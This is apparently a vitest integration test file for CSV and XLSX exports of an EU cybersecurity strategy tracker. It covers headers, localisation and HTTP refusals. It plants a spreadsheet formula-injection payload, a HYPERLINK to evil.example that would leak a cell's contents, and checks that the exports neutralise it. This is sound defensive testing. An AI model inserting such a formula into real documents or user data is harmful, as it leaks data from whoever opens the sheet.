import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OPEN_ROUND, SUBMIT_REPORT, UPDATE_ACTION, clientFor, readAction, type Client } from '../support/api.js';
import { parseCsv } from '../support/csv.js';
import { startTestServer, type TestServer } from '../support/local-server.js';

/**
 * The exports over real HTTP on the local server, as a conference organiser (a viewer) gets
 * them: every format of every export, text written through the API coming back neutralised,
 * and the refusals.
 */
let now = new Date('2013-10-01T09:00:00Z');
let server: TestServer;
let viewer: Client;
let france: Client;
let refs: string[];

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the figures")';
const REPORT_NOTE = '+33 1 23 45 67 89, call the national CERT';

beforeAll(async () => {
  server = await startTestServer({ clock: () => now });
  viewer = await clientFor(server, 'viewer');
  const enisa = await clientFor(server, 'owner-enisa');
  const coordinator = await clientFor(server, 'coordinator');
  france = await clientFor(server, 'contact-fr');
  refs = (await server.store.listActions('eu-cybersecurity-2013')).map((action) => action.ref);

  const { version } = await readAction(enisa, '2.1-04');
  const updated = await enisa.call(UPDATE_ACTION, {
    input: { actionId: '2.1-04', status: 'IN_PROGRESS', progress: 40, note: HYPERLINK, expectedVersion: version },
  });
  expect(updated.errors).toBeUndefined();
  now = new Date('2013-11-15T09:00:00Z');
  expect((await coordinator.call(OPEN_ROUND, { input: { name: 'Autumn 2013', closes: '2013-11-30' } })).errors).toBeUndefined();
  now = new Date('2013-11-20T09:00:00Z');
  const submitted = await france.call(SUBMIT_REPORT, { input: { actionId: '2.1-10', country: 'FR', status: 'IN_PROGRESS', note: REPORT_NOTE } });
  expect(submitted.errors).toBeUndefined();
  now = new Date('2014-02-07T12:00:00Z');
});
afterAll(() => server.close());

async function download(path: string, token: string | null = viewer.token, init: RequestInit = {}) {
  return fetch(`${server.url}${path}`, { ...init, headers: token ? { authorization: `Bearer ${token}` } : {} });
}

async function csv(path: string, token = viewer.token) {
  const response = await download(path, token);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  const text = await response.text();
  // fetch's text() drops the byte order mark; the bytes keep it (checked below).
  const [header = [], ...rows] = parseCsv(text);
  return { response, header, rows: rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index]]))) };
}

async function xlsx(path: string, token = viewer.token) {
  const response = await download(path, token);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await response.arrayBuffer()) as ExcelJS.Buffer);
  return { response, workbook };
}

function sheetRows(worksheet: ExcelJS.Worksheet | undefined) {
  const header = (worksheet?.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: Record<string, ExcelJS.CellValue>[] = [];
  worksheet?.eachRow((row, number) => {
    if (number > 1) rows.push(Object.fromEntries(header.map((name, index) => [name, row.getCell(index + 1).value])));
  });
  return { header, rows };
}

describe('the actions export', () => {
  it('as CSV: every action, every field, the note neutralised, named for the day', async () => {
    const { response, header, rows } = await csv('/export/actions.csv');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="eu-cybersecurity-2013_actions_2014-02-07.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(header).toEqual(
      expect.arrayContaining([
        'Reference',
        'Action',
        'Owners',
        'Baseline deadline',
        'Deadline in force',
        'Status',
        'Progress (%)',
        'Health',
        'Note',
        'Evidence links',
      ]),
    );
    expect(rows.map((row) => row.Reference)).toEqual(refs);
    expect(rows.find((row) => row.Reference === '2.1-04')).toMatchObject({
      Status: 'In progress',
      'Status code': 'IN_PROGRESS',
      'Progress (%)': '40',
      Note: `'${HYPERLINK}`,
    });
  });

  it('as CSV, starts with a UTF-8 byte order mark so that Excel reads accents right', async () => {
    const bytes = new Uint8Array(await (await download('/export/actions.csv')).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('as XLSX: one sheet with every action, typed cells, the note neutralised, and the workbook described', async () => {
    const { response, workbook } = await xlsx('/export/actions.xlsx');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="eu-cybersecurity-2013_actions_2014-02-07.xlsx"');
    expect(workbook.creator).toBe('Strategy Tracker');
    expect(workbook.title).toBe('JOIN(2013) 1: Actions, as of 2014-02-07');
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Actions']);
    const { rows } = sheetRows(workbook.getWorksheet('Actions'));
    expect(rows.map((row) => row.Reference)).toEqual(refs);
    const row = rows.find((candidate) => candidate.Reference === '2.1-04');
    expect(row).toMatchObject({ Status: 'In progress', 'Status code': 'IN_PROGRESS', 'Progress (%)': 40, Note: `'${HYPERLINK}`, Recurring: false });
    expect(row?.['Baseline deadline']).toBeInstanceOf(Date);
    expect(row?.['Last confirmed (UTC)']).toEqual(new Date('2013-10-01T09:00:00.000Z'));
  });

  it('as of a past day: the state and health that day', async () => {
    const { response, rows } = await csv('/export/actions.csv?asOf=2013-09-30');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="eu-cybersecurity-2013_actions_2013-09-30.csv"');
    expect(rows.map((row) => row.Reference)).toEqual(refs);
    expect(rows.find((row) => row.Reference === '2.1-04')).toMatchObject({ Status: 'Not started', 'Progress (%)': '0', Note: '' });
  });
});

describe('the member-state reports export', () => {
  // The report is under review: its note is for France's contacts and the coordinators only
  // (test/integration/report-visibility.test.ts follows every role); France's contact downloads it.
  it('as CSV and XLSX: the report, its country and round, its note neutralised', async () => {
    const { rows } = await csv('/export/reports.csv', france.token);
    expect(rows).toEqual([
      expect.objectContaining({
        Action: '2.1-10',
        'Country code': 'FR',
        Country: 'France',
        'Round name': 'Autumn 2013',
        Status: 'In progress',
        Note: `'${REPORT_NOTE}`,
        Review: 'Awaiting review',
        'Review code': 'SUBMITTED',
      }),
    ]);
    const { workbook } = await xlsx('/export/reports.xlsx', france.token);
    const sheet = sheetRows(workbook.getWorksheet('Member-state reports'));
    expect(sheet.rows).toEqual([expect.objectContaining({ Action: '2.1-10', 'Country code': 'FR', Note: `'${REPORT_NOTE}`, Version: 1 })]);
    expect(sheet.rows[0]?.['Reported (UTC)']).toEqual(new Date('2013-11-20T09:00:00.000Z'));
  });
});

describe('the history export', () => {
  it('as CSV: every change, oldest first, who made it and what changed', async () => {
    const { rows } = await csv('/export/history.csv');
    expect(rows.map((row) => `${row['Event code']} ${row.Action || row.Round}`)).toEqual([
      'ACTION_UPDATED 2.1-04',
      expect.stringMatching(/^ROUND_OPENED 2013-11-15/),
      'REPORT_SUBMITTED 2.1-10',
    ]);
    expect(rows.map((row) => row.Event)).toEqual(['Action updated', 'Round opened', 'Report submitted']);
    expect(rows[0]).toMatchObject({
      By: expect.stringContaining('ENISA'),
      Role: 'Owner',
      'Role code': 'OWNER',
      'Recorded at (UTC)': '2013-10-01T09:00:00.000Z',
    });
    // After, in words: the note as written (neutralised only where it opens the cell), the progress by its label.
    expect(rows[0]?.After).toContain(`Note: ${HYPERLINK}`);
    expect(rows[0]?.After).toContain('Progress (%): 40');
    expect(rows[0]?.After).toContain('Status: In progress');
  });

  it('as XLSX, within a range of days', async () => {
    const { response, workbook } = await xlsx('/export/history.xlsx?from=2013-11-01&to=2013-11-30');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="eu-cybersecurity-2013_history_2013-11-01_to_2013-11-30.xlsx"');
    const { rows } = sheetRows(workbook.getWorksheet('Change history'));
    expect(rows.map((row) => row.Event)).toEqual(['Round opened', 'Report submitted']);
    expect(rows[0]?.['Recorded at (UTC)']).toEqual(new Date('2013-11-15T09:00:00.000Z'));
  });
});

describe('everything', () => {
  it('is one workbook of three sheets', async () => {
    const { workbook } = await xlsx('/export/everything.xlsx');
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Actions', 'Member-state reports', 'Change history']);
    expect(sheetRows(workbook.getWorksheet('Actions')).rows).toHaveLength(refs.length);
    expect(sheetRows(workbook.getWorksheet('Change history')).rows).toHaveLength(3);
  });
});

/** Every text cell of a sheet, to look for codes and internal names where words belong. */
function textCells(rows: Record<string, unknown>[], codeColumns: readonly string[]): string[] {
  return rows.flatMap((row) =>
    Object.entries(row)
      .filter(([header, value]) => !codeColumns.includes(header) && typeof value === 'string')
      .map(([, value]) => value as string),
  );
}

const STATE_CODES =
  /\b(NOT_STARTED|IN_PROGRESS|COMPLETED|ONGOING|DISCONTINUED|ON_TRACK|AT_RISK|OVERDUE|DONE|SUBMITTED|ACCEPTED|RETURNED|BULLET|SENTENCE|PHRASE|REVIEW_DATE|ACTION_UPDATED|ROUND_OPENED|REPORT_SUBMITTED|OWNER|COORDINATOR|MEMBER_STATE)\b/;
const INTERNAL_FIELDS = /\b(lastConfirmedAt|evidenceUrls|declaredHealth|forecastDate|completedAt|reportedAt|roundId|version)\b|[{}"]/;

describe("exports read back: labels, not codes, in the reader's language", () => {
  it('in English: the CSV and the XLSX say words, keep the codes in their own columns, and dates are dates', async () => {
    const actions = await csv('/export/actions.csv?lang=en');
    const row = actions.rows.find((candidate) => candidate.Reference === '2.1-04');
    expect(row).toMatchObject({
      Status: 'In progress',
      Health: expect.any(String),
      Kind: expect.stringMatching(/^(Bullet under a lead-in|Sentence of the strategy)$/),
      'Status code': 'IN_PROGRESS',
      Recurring: 'No',
    });
    expect(row?.['Baseline deadline']).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    const codeColumns = [
      'Status code',
      'Health code',
      'Declared health code',
      'Kind code',
      'Deadline source code',
      'Review code',
      'Event code',
      'Role code',
      'Event id',
      'User id',
    ];
    expect(textCells(actions.rows, codeColumns).filter((cell) => STATE_CODES.test(cell))).toEqual([]);

    const { workbook } = await xlsx('/export/everything.xlsx?lang=en');
    const history = sheetRows(workbook.getWorksheet('Change history')).rows;
    expect(textCells(history, [...codeColumns, 'Note', 'After', 'Before']).filter((cell) => STATE_CODES.test(cell))).toEqual([]);
    // Before and after hold words, never the record's field names or JSON.
    const changes = history.flatMap((change) => [change.Before, change.After]).filter((cell): cell is string => typeof cell === 'string');
    expect(changes.length).toBeGreaterThan(0);
    expect(changes.filter((cell) => INTERNAL_FIELDS.test(cell.replace(HYPERLINK, '')))).toEqual([]);
    expect(history[0]?.['Recorded at (UTC)']).toBeInstanceOf(Date);
    const reports = sheetRows(workbook.getWorksheet('Member-state reports')).rows;
    expect(reports[0]).toMatchObject({ Status: 'In progress', Review: 'Awaiting review', 'Status code': 'IN_PROGRESS' });
    expect(reports[0]?.['Reported (UTC)']).toEqual(new Date('2013-11-20T09:00:00.000Z'));
  });

  it("in French: French headings, sheet names and the glossary's words, in CSV and in XLSX", async () => {
    const actions = await csv('/export/actions.csv?lang=fr');
    expect(actions.header).toEqual(
      expect.arrayContaining(['Référence', 'Action', 'Responsables', 'État', 'Santé', 'Avancement (%)', 'Code de l’état']),
    );
    expect(actions.header).not.toContain('Status');
    const row = actions.rows.find((candidate) => candidate.Référence === '2.1-04');
    expect(row).toMatchObject({ État: 'En cours', 'Code de l’état': 'IN_PROGRESS', Récurrente: 'Non', 'Avancement (%)': '40' });
    expect(['Achevée', 'Dans les temps', 'À risque', 'En retard']).toContain(row?.Santé);

    const { workbook } = await xlsx('/export/everything.xlsx?lang=fr');
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Actions', 'Rapports des États membres', 'Historique des changements']);
    expect(workbook.title).toBe('JOIN(2013) 1: Actions, rapports des États membres et historique, au 2014-02-07');
    const sheet = sheetRows(workbook.getWorksheet('Actions'));
    const xlsxRow = sheet.rows.find((candidate) => candidate.Référence === '2.1-04');
    expect(xlsxRow).toMatchObject({ État: 'En cours', Récurrente: false });
    expect(xlsxRow?.['Échéance initiale']).toBeInstanceOf(Date);
    expect(xlsxRow?.['Dernière confirmation (UTC)']).toEqual(new Date('2013-10-01T09:00:00.000Z'));
    const reports = sheetRows(workbook.getWorksheet('Rapports des États membres')).rows;
    expect(reports[0]).toMatchObject({ Pays: 'France', État: 'En cours', Examen: 'En attente d’examen', 'Code de l’examen': 'SUBMITTED' });
    const history = sheetRows(workbook.getWorksheet('Historique des changements')).rows;
    expect(history.map((change) => change.Événement)).toEqual(['Action mise à jour', 'Campagne ouverte', 'Rapport soumis']);
    expect(history[0]).toMatchObject({ Rôle: 'Responsable' });
    expect(history[0]?.Après).toContain('État\u00a0: En cours');
    expect(history[2]?.Après).toContain('État\u00a0: En cours');
  });
});

describe('refusals', () => {
  it('401 without a token, or with one that does not verify', async () => {
    const [header, payload, signature = ''] = viewer.token.split('.');
    const forged = `${header}.${payload}.${[...signature].reverse().join('')}`;
    for (const token of [null, 'not-a-jwt', forged]) {
      const response = await download('/export/actions.csv', token);
      expect(response.status).toBe(401);
      expect(await response.json()).toEqual({ error: { code: 'UNAUTHENTICATED', message: expect.any(String) } });
    }
  });

  it('404 for an export or a format that does not exist, listing those that do', async () => {
    for (const path of ['/export/actions.pdf', '/export/everything.csv', '/export/passwords.csv']) {
      const response = await download(path);
      expect(response.status).toBe(404);
      const body = (await response.json()) as { error: { code: string; message: string } };
      expect(body.error.code).toBe('NOT_FOUND');
      expect(body.error.message).toContain('/export/actions.csv');
    }
  });

  it('400 with the reason for a bad parameter', async () => {
    const cases = {
      '/export/actions.csv?asOf=2013-13-01': 'asOf "2013-13-01" is not a date (YYYY-MM-DD).',
      '/export/history.csv?from=2014-01-01&to=2013-01-01': 'The range is empty: from (2014-01-01) must come before to (2013-01-01).',
      '/export/actions.xlsx?limit=5': 'Unknown parameter "limit": the actions export takes "asOf", "lang".',
      '/export/actions.csv?lang=it': 'lang "it" is not a language of the exports: give "en", "fr", "de".',
    };
    for (const [path, message] of Object.entries(cases)) {
      const response = await download(path);
      expect(response.status).toBe(400);
      expect(await response.json()).toEqual({ error: { code: 'BAD_USER_INPUT', message } });
    }
  });

  it('405 for anything but a read', async () => {
    const response = await download('/export/actions.csv', viewer.token, { method: 'POST' });
    expect(response.status).toBe(405);
    expect(response.headers.get('allow')).toBe('GET, HEAD');
  });
});
